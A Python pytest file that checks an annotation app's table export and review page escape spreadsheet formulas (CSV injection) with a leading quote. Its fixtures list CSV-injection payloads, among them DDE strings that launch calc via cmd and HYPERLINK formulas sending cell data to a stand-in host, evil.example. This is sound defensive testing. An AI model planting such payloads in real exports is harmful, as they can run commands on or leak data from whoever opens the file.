"""Tables a reviewer can download as CSV: cells that a spreadsheet would run as formulas are neutralised."""

import pandas as pd
import pytest
from sqlmodel import Session
from test_pages import signed_in

from feedback.store.tables import Annotation
from feedback.ui.tables import safe_cell, safe_table

# OWASP, "CSV Injection": prefix cells starting with = + - @ tab or carriage return with a single quote.
ATTACKS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1 to 2+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")']


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["a fine answer", "", "x = 1", "'=already quoted", "-3", "+4.5", "-0.25e3", 7,
                                   -3, -0.5, None, "-0.365 to 0.182", "-0.500 to -0.125"])
def test_text_that_is_no_formula_and_numbers_are_unchanged(value):
    assert safe_cell(value) == value


def test_safe_table_changes_only_text_cells_and_keeps_the_original():
    table = pd.DataFrame({"annotator": ["maria", "=evil"], "rationale": ["@SUM(A1)", "good"],
                          "score": [-1.5, 2.0], "n": [-1, 3], "=col": ["a", "b"],
                          "kind": pd.Categorical(["-x", "y"])})
    safe = safe_table(table)
    assert list(safe["annotator"]) == ["maria", "'=evil"]
    assert list(safe["rationale"]) == ["'@SUM(A1)", "good"]
    assert list(safe["kind"]) == ["'-x", "y"]
    assert list(safe.columns) == ["annotator", "rationale", "score", "n", "'=col", "kind"]
    assert safe["score"].tolist() == [-1.5, 2.0] and safe["n"].tolist() == [-1, 3]
    assert safe["n"].dtype == table["n"].dtype
    assert table["annotator"].iloc[1] == "=evil"  # a copy: the caller's frame is untouched


def test_a_rationale_formula_is_neutralised_on_the_review_page(db):
    formula = '=HYPERLINK("http://evil.example/steal?d="&A1,"details")'
    with Session(db) as s:
        s.get(Annotation, 1).rationale = formula
        s.commit()
    at = signed_in(db, "rita", "reviewer").run()
    at.switch_page("pages/review.py").run()
    assert not at.exception, at.exception
    said = at.dataframe[1].value
    assert dict(zip(said["Annotator"], said["Rationale"]))["maria"] == "'" + formula


def test_figure_tables_are_written_one_way():
    from feedback.ui.tables import figure_styler

    table = pd.DataFrame({"annotator": ["ann", "=cmd"], "items_done": [3, None], "agreement": [2 / 3, None],
                          "kappa": [0.12345, None], "position_p": [0.0001, 0.2]})
    shown = figure_styler(table, shares=["agreement"], counts=["items_done"], p_values=["position_p"])
    assert list(shown.data.columns) == ["Annotator", "Items done", "Agreement", "Kappa", "Position p"]
    text = shown.to_string().splitlines()
    assert text[1].split() == ["0", "ann", "3", "67%", "0.123", "<", "0.001"]
    assert text[2].split() == ["1", "'=cmd", "–", "–", "–", "0.200"]  # no None, no nan; formulas neutralised
